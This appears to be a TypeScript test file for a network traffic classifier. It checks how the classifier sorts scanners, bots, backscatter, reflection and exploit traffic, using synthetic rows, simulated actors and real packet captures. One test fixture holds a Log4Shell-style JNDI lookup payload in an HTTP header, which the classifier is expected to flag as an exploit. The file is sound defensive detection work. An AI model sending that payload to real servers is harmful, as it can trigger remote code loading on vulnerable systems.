/** Every class by rows, in its order; the simulator's actors and real captures; limits; no order of rows matters. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { needs, sharedData, sharedFile } from '@noroshi/kit/testing.ts';
import { simulateToBytes } from '@noroshi/simulate/main.ts';
import { CLASSES } from '@noroshi/wire/classify/class.ts';
import { MARKS } from '@noroshi/wire/classify/marks/index.ts';
import { PREDICATE } from '@noroshi/wire/classify/predicates.ts';
import { formatAddress } from '@noroshi/wire/net/address.ts';
import { TCP_ACK, TCP_SYN } from '@noroshi/wire/net/tcp.ts';
import type { SourceHour } from '../../detector.ts';
import type { Bin } from '../../flow-batch.ts';
import { binOf, binsOfCapture, binsOfFile, type Row, run } from '../testing/captures.ts';
import { ClassesRun, classes, SOURCE_CLASSES, SOURCE_REASONS, TOOLS } from './classes.ts';
import { HOUR_LIMITS } from './hour.ts';

const BACKSCATTER = CLASSES.findIndex(({ name }) => name === 'backscatter');
const SYNACK = TCP_SYN | TCP_ACK;

interface Named {
  readonly class: string;
  readonly reasons: readonly string[];
  readonly tools: readonly string[];
  readonly packets: number;
  readonly targets: number;
  readonly ports: number;
}

function named(hour: SourceHour): Map<string, Named> {
  const bits = (names: readonly { name: string }[], set: number): string[] =>
    names.filter((_, place) => (set & (1 << place)) !== 0).map(({ name }) => name);
  const all = new Map<string, Named>();
  for (let row = 0; row < hour.rows; row++) {
    const at = row * 4;
    all.set(formatAddress(hour.src[at], hour.src[at + 1], hour.src[at + 2], hour.src[at + 3]), {
      class: SOURCE_CLASSES[hour.class[row]].name,
      reasons: bits(SOURCE_REASONS, hour.reasons[row]),
      tools: bits(TOOLS, hour.tools[row]),
      packets: hour.packets[row],
      targets: hour.targets[row],
      ports: hour.ports[row],
    });
  }
  return all;
}

function classesOf(bins: readonly Bin[]): Map<string, Named> {
  const { hours } = run(classes, bins);
  assert.equal(hours.length, 1);
  return named(hours[0]);
}

function times(count: number, row: (index: number) => Row): Row[] {
  return Array.from({ length: count }, (_, index) => row(index));
}

const target = (index: number): string => `25.37.${index >> 8}.${index & 255}`;
const mark = (name: string): number => 1 << MARKS.findIndex((known) => known.name === name);
const answer = (row: Row): Row => ({ class: BACKSCATTER, flags: SYNACK, port: 80, ...row });

const CASES: readonly [what: string, rows: readonly Row[], name: string, reason: string | undefined][] = [
  ['a bogon that scans', times(9, (i) => ({ dst: target(i), predicates: PREDICATE.bogon_src })), 'bogon', 'bogon_src'],
  ['a source that is its destination', [{ predicates: PREDICATE.src_is_dst }], 'bogon', 'src_is_dst'],
  ['a victim', times(9, (i) => answer({ dst: target(i), sport: 1024 + i })), 'backscatter', 'answers'],
  [
    'a victim of a flood with one source port',
    times(9, (i) => answer({ dst: target(i), sport: 1024 })),
    'backscatter',
    'answers',
  ],
  [
    'a SYN-ACK scan',
    times(9, (i) => answer({ dst: target(i), sport: 443, port: 33_000 + i })),
    'horizontal',
    'synack_scan',
  ],
  ['a bot, by one packet', [{ marks: mark('mirai') }], 'bot', 'bot_mark'],
  ['a listed scanner', [{ scanner: 'Somebody' }], 'research', 'scanner_list'],
  [
    'a prober that says so',
    [{ proto: 17, payload: 'see https://probe.example/.well-known/probing.txt' }],
    'research',
    'probe_uri',
  ],
  ['a horizontal scan', times(5, (i) => ({ dst: target(i) })), 'horizontal', 'many_targets'],
  ['a vertical scan', times(8, (i) => ({ port: i + 1 })), 'vertical', 'many_ports'],
  ['a mixed scan', times(8, (i) => ({ dst: target(i), port: i + 1 })), 'mixed', 'many_ports'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is that text
  ['an exploit', [{ payload: 'GET / HTTP/1.1\r\nX: ${JNDI:ldap://a/b}' }], 'exploit', 'exploit_payload'],
  ['peer to peer', [{ proto: 17, predicates: PREDICATE.bittorrent }], 'misconfiguration', 'p2p'],
  ['a wrong setting', [{ packets: 10, port: 514, proto: 17 }], 'misconfiguration', 'one_service'],
  ['one packet', [{}], 'unknown', undefined],
  ['four targets', times(4, (i) => ({ dst: target(i) })), 'unknown', undefined],
];

describe('sources/classes', () => {
  for (const [what, rows, name, reason] of CASES) {
    test(what, () => {
      const [seen] = [...classesOf([binOf(60, rows)]).values()];
      assert.equal(seen.class, name);
      if (reason !== undefined) assert.ok(seen.reasons.includes(reason), seen.reasons.join());
    });
  }

  test('a reflection is told from victims by the address that everybody answers to', () => {
    const servers = times(200, (i) => answer({ src: `5.6.${i >> 8}.${i & 255}`, dst: target(7) }));
    const victim = times(100, (i) => answer({ src: '9.9.9.9', dst: target(i), sport: 2000 + i }));
    const seen = classesOf([binOf(60, [...servers, ...victim], 256)]);
    assert.equal(seen.get('5.6.0.1')?.class, 'reflection');
    assert.deepEqual(seen.get('5.6.0.1')?.reasons, ['many_to_few', 'answers']);
    assert.equal(seen.get('9.9.9.9')?.class, 'backscatter');
  });

  test('an hour is one answer, whatever minutes there are and in which order rows come', () => {
    const rows = times(40, (i) => ({ src: `1.2.3.${i % 8}`, dst: target(i), port: 1 + (i % 3) }));
    const one = classesOf([binOf(60, rows)]);
    const spread = classesOf([binOf(61, rows.slice(20).reverse()), binOf(100, rows.slice(0, 20).reverse())]);
    const sorted = (all: Map<string, Named>): unknown => [...all].sort(([a], [b]) => (a < b ? -1 : 1));
    assert.deepEqual(sorted(one), sorted(spread));
    assert.equal(one.get('1.2.3.0')?.targets, 5);
    assert.equal(one.get('1.2.3.0')?.ports, 3);
  });

  test('each hour once, also when its last minute is missing', () => {
    const { hours } = run(classes, [binOf(60, [{}]), binOf(185, [{}]), binOf(186, [{}])]);
    assert.deepEqual(
      hours.map(({ hour_ms, rows, packets }) => [hour_ms / 60_000, rows, packets[0]]),
      [
        [60, 1, 1],
        [180, 1, 2],
      ],
    );
  });

  test('IPv6 sources and targets count like others', () => {
    const rows = times(5, (i) => ({ src: '2a00::1', dst: `2d00::${i}` }));
    assert.equal(classesOf([binOf(60, rows, 0)]).get('2a00::1')?.class, 'horizontal');
  });

  test('beyond the limits sources are left out and counted, pairs make a reason', () => {
    const small = new ClassesRun({ ...HOUR_LIMITS, sources: 2, pairs_a_source: 3 });
    const rows = [
      ...times(4, (i) => ({ src: `1.1.1.${i}`, packets: 10 })),
      ...times(9, (i) => ({ src: '1.1.1.0', dst: target(i) })),
    ];
    const hour = small.step(binOf(119, rows)).sources;
    assert.ok(hour !== undefined);
    assert.equal(hour.rows, 2);
    assert.equal(hour.packets_left_out, 20);
    const seen = named(hour).get('1.1.1.0');
    assert.equal(seen?.targets, 3);
    assert.ok(seen.reasons.includes('counted_in_part'));
  });
});

const ACTORS: readonly [actor: string, tool: string | undefined, classNames: readonly string[]][] = [
  ['mirai', 'mirai', ['bot']],
  ['mirai-variant', 'mirai', ['bot']],
  ['masscan-1.3.2', 'masscan_1_3', ['horizontal', 'mixed', 'research']],
  ['masscan-head', 'masscan_head', ['horizontal', 'mixed', 'research']],
  ['zmap-2', 'zmap_2', ['horizontal', 'research']],
  ['zmap-3', 'zmap_3', ['horizontal', 'research']],
  ['zmap-4.1.0', 'zmap_4', ['horizontal', 'research']],
  ['zmap-4.1.1-windows', 'zmap_4', ['horizontal', 'research']],
  ['zmap-4.1.1-linux', 'zmap_4', ['horizontal', 'research']],
  ['zmap-4.1.1-bsd', 'zmap_4', ['horizontal', 'research']],
  ['zmap-4.1.1-smallest', 'zmap_4', ['horizontal', 'research']],
  ['nmap', 'nmap', ['horizontal', 'mixed']],
  ['unicornscan', 'unicornscan', ['horizontal']],
  ['synack-scan', undefined, ['horizontal']],
  ['vertical-slow', undefined, ['vertical']],
];

describe('sources/classes over the simulator’s actors', () => {
  for (const [actor, tool, classNames] of ACTORS) {
    test(actor, () => {
      const options = { packets: 400, duration_s: 300, start_s: 1_735_689_600, prefixes: ['25.37.0.0/20'] };
      const { bytes, truth } = simulateToBytes({ ...options, mix: { [actor]: 1 }, only: true });
      const seen = classesOf(binsOfCapture(bytes, 4096));
      for (const { subject } of truth.events) {
        const source = seen.get(subject);
        assert.ok(source !== undefined, subject);
        assert.ok(classNames.includes(source.class), `${source.class} ${source.reasons.join()}`);
        assert.deepEqual(source.tools, tool === undefined ? [] : [tool]);
      }
    });
  }
});

const DATA = ['data', 'pcap'] as const;
const CAPTURES: readonly [path: string, source: string, name: string, tool: string | undefined][] = [
  ['simple-scan/445_scan.pcap', '176.192.150.3', 'horizontal', undefined],
  ['simple-scan/port_scan.pcap', '192.168.2.154', 'bogon', undefined],
  ['simple-scan/backscatter.trace', '202.229.120.98', 'backscatter', undefined],
  ['esnet/attacks/scanners/masscan/tcp_0_1000_20190821.pcap', '172.31.15.102', 'bogon', 'masscan_1_3'],
  ['scanner-recognition/zmap.pcap', '192.168.37.132', 'bogon', 'zmap_2'],
  ['ndpi/synscan.pcap', '172.16.0.8', 'bogon', 'nmap'],
  ['chrissanders/synscan.pcapng', '172.16.0.8', 'bogon', 'nmap'],
];

describe('sources/classes over real captures', () => {
  for (const [path, source, name, tool] of CAPTURES) {
    test(path, needs(sharedFile(...DATA, path)), () => {
      const { hours } = run(classes, binsOfFile(sharedData(...DATA, path)));
      const seen = hours.flatMap((hour) => named(hour).get(source) ?? []);
      const told = seen.map((hour) => `${hour.class} ${hour.tools.join()}`).join('; ');
      assert.ok(
        seen.some((hour) => hour.class === name && (tool === undefined || hour.tools.includes(tool))),
        told,
      );
    });
  }

  const log4shell = [...DATA, 'corelight-log4shell', 'spcap-CEXKLs3NQWdEM2CoMj-1639421287179170294-1.pcap'];
  test('corelight-log4shell: the attack is an exploit', needs(sharedFile(...log4shell)), () => {
    const { hours } = run(classes, binsOfFile(sharedData(...log4shell)));
    const seen = hours.flatMap((hour) => [...named(hour).values()]);
    assert.ok(seen.some((source) => source.reasons.includes('exploit_payload')));
  });
});
